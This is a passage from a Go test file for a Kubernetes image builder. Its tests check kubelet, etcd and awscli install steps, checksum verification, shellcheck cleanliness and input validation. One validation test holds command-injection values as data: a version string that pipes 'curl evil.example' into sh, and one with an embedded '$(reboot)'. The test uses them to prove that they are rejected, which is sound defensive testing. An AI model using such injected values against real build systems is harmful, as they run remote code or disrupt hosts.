		require.Contains(t, k8s, "version=$(/usr/bin/kubeadm version -o short)")
		require.Contains(t, k8s, "[[ $version == 'v1.37.1' ]]")
		require.Contains(t, k8s, "ExecStart=/usr/bin/kubelet $KUBELET_KUBECONFIG_ARGS $KUBELET_CONFIG_ARGS $KUBELET_KUBEADM_ARGS $KUBELET_EXTRA_ARGS")
		require.Contains(t, k8s, "systemctl enable kubelet.service")
		require.Contains(t, commands(t, component(t, c, images.RoleNode, "awscli")), "'https://awscli.amazonaws.com/awscli-exe-linux-"+tc.cli+".zip'")
		etcd := commands(t, component(t, c, images.RoleMaster, "etcd"))
		require.Contains(t, etcd, "'https://github.com/etcd-io/etcd/releases/download/v3.7.1/etcd-v3.7.1-linux-"+tc.rel+".tar.gz'")
		require.Contains(t, etcd, "'https://github.com/etcd-io/etcd/releases/download/v3.7.1/SHA256SUMS'")
		require.Contains(t, etcd, "verify 'etcd-v3.7.1-linux-"+tc.rel+".tar.gz' 'SHA256SUMS'")
		require.Contains(t, etcd, "contains 'etcd Version: 3.7.1'")
		require.Contains(t, etcd, "useradd --system")
		require.NotContains(t, etcd, "systemctl enable", "the master boot script starts etcd")
	}
	// Packages come from each distribution's own manager.
	al := cluster(t, func(c *spec.Cluster) { c.Images.Parent = spec.ParentAL2023 })
	require.Contains(t, commands(t, component(t, al, images.RoleNode, "kubernetes")), "dnf install -y 'conntrack-tools' 'socat' 'ethtool' 'iptables-nft' 'nftables'")
	require.Contains(t, commands(t, component(t, al, images.RoleNode, "kubernetes")), "EnvironmentFile=-/etc/sysconfig/kubelet")
	ub := cluster(t)
	require.Contains(t, commands(t, component(t, ub, images.RoleNode, "kubernetes")), "install -y --no-install-recommends 'conntrack' 'socat' 'ethtool' 'ebtables' 'iptables' 'nftables'")
	require.Contains(t, commands(t, component(t, ub, images.RoleNode, "kubernetes")), "EnvironmentFile=-/etc/default/kubelet")
	require.Contains(t, commands(t, component(t, ub, images.RoleNode, "awscli")), "'openssl' 'curl' 'jq' 'unzip'")
}

func TestComponentsRejectValuesThatWouldReachTheShellUnchecked(t *testing.T) {
	c := cluster(t)
	c.Images.Versions.Containerd = "2.4.2; curl evil.example | sh"
	c.Kubernetes.Version = "v1.37.2$(reboot)"
	c.KubeProxy.Mode = "userspace"
	_, err := images.Components(c, "gpu")
	require.Error(t, err)
	for _, want := range []string{
		`role "gpu" is not master or node`,
		`cluster.images.versions.containerd: "2.4.2; curl evil.example | sh" is not MAJOR.MINOR.PATCH`,
		`cluster.kubernetes.version: "v1.37.2$(reboot)" is not vMAJOR.MINOR.PATCH`,
		`cluster.kubeProxy.mode: "userspace" is not nftables, iptables, ipvs or none`,
	} {
		require.ErrorContains(t, err, want)
	}
}

// script joins a step's commands as AWSTOE runs them.
func script(cmds []string) string { return "#!/usr/bin/env bash\n" + strings.Join(cmds, "\n") + "\n" }

func TestEveryStepIsShellcheckClean(t *testing.T) {
	shellcheck := testtools.Path(t, "shellcheck")
	dir := t.TempDir()
	var files []string
	seen := map[string]bool{}
	for name, c := range variants(t) {
		for _, role := range []string{images.RoleMaster, images.RoleNode} {
			comps, err := images.Components(c, role)
			require.NoError(t, err)
			for _, comp := range comps {
				for _, p := range parse(t, comp).Phases {
					for _, s := range p.Steps {
						body := script(s.Inputs.Commands)
						if seen[body] {
							continue
						}
						seen[body] = true
						f := filepath.Join(dir, fmt.Sprintf("%03d-%s-%s-%s.sh", len(files), comp.Name, p.Name, s.Name))
						require.NoError(t, os.WriteFile(f, []byte(strings.Replace(body, "\n", "\n# "+name+" "+role+"\n", 1)), 0o600))
						files = append(files, f)
					}
				}
			}
		}
	}
	out, err := exec.Command(shellcheck, append([]string{"--shell=bash", "--severity=style", "--enable=all", "--exclude=SC2250"}, files...)...).CombinedOutput()
	require.NoError(t, err, "%s", out)
}

// The download helpers are real shell: run them against checksum files in
// each upstream's format.
func TestVerifyAcceptsEachUpstreamsChecksumFormatAndRejectsMismatches(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash is not available")
	}
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "runc.amd64"), []byte("binary"), 0o600))
	sum := sha256.Sum256([]byte("binary"))
	h := hex.EncodeToString(sum[:])
	other := strings.Repeat("0", 64)
	for _, tc := range []struct {
		name, sums string
		ok         bool
	}{
		{"sha256sum text mode (containerd, CNI, etcd SHA256SUMS)", other + "  runc.arm64\n" + h + "  runc.amd64\n", true},
		{"sha256sum binary mode", h + " *runc.amd64\n", true},
		{"a lone hash (dl.k8s.io)", h, true},
		{"mismatch", other + "  runc.amd64\n", false},
		{"not listed", h + "  runc.arm64\n", false},
		{"a longer name is not the file", h + "  runc.amd64.asc\n", false},
		{"empty", "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			require.NoError(t, os.WriteFile(filepath.Join(dir, "sums"), []byte(tc.sums), 0o600))
			comp := component(t, cluster(t), images.RoleNode, "containerd")
			funcs := parse(t, comp).Phases[0].Steps[1].Inputs.Commands[1] // InstallRunc's helpers
			require.Contains(t, funcs, "verify() {")
			// Keep the helpers, skip their scratch directory.
			funcs = funcs[:strings.Index(funcs, "work=$(mktemp -d)")]
			cmd := exec.Command(bash, "-c", "set -euo pipefail\n"+funcs+"\nverify runc.amd64 sums")
			cmd.Dir = dir
			out, err := cmd.CombinedOutput()
			if tc.ok {
				require.NoError(t, err, "%s", out)
				require.Contains(t, string(out), "SHA-256 "+h+" verified")
			} else {
				require.Error(t, err, "%s", out)
			}
		})
	}
}

func TestComponentsAreDeterministic(t *testing.T) {
	c := cluster(t)
	a, err := images.Components(c, images.RoleMaster)
	require.NoError(t, err)
	b, err := images.Components(c, images.RoleMaster)
	require.NoError(t, err)
	require.Equal(t, a, b)
	n, err := images.Components(c, images.RoleNode)
	require.NoError(t, err)
	require.Equal(t, a[:4], n, "roles share all but etcd")
}

// The images install the cluster's Kubernetes, and load the kernel modules
// its kube-proxy mode and CNI need: a library caller's mistakes there are
// refused too, not only those of the images section.
func TestSectionsTheImagesReadAreChecked(t *testing.T) {
	c := cluster(t)
	c.Kubernetes.NodeVersion = "latest"
	c.KubeProxy.Mode = "userspace"
	c.CNI.Provider = "flannel"
	_, err := run(t, images.Args{Cluster: c, VpcID: pulumi.String(vpc), SubnetID: pulumi.String(subnet)})
	require.Error(t, err)
	for _, path := range []string{"cluster.kubernetes.nodeVersion", "cluster.kubeProxy.mode", "cluster.cni.provider"} {
		require.ErrorContains(t, err, path)
	}
}
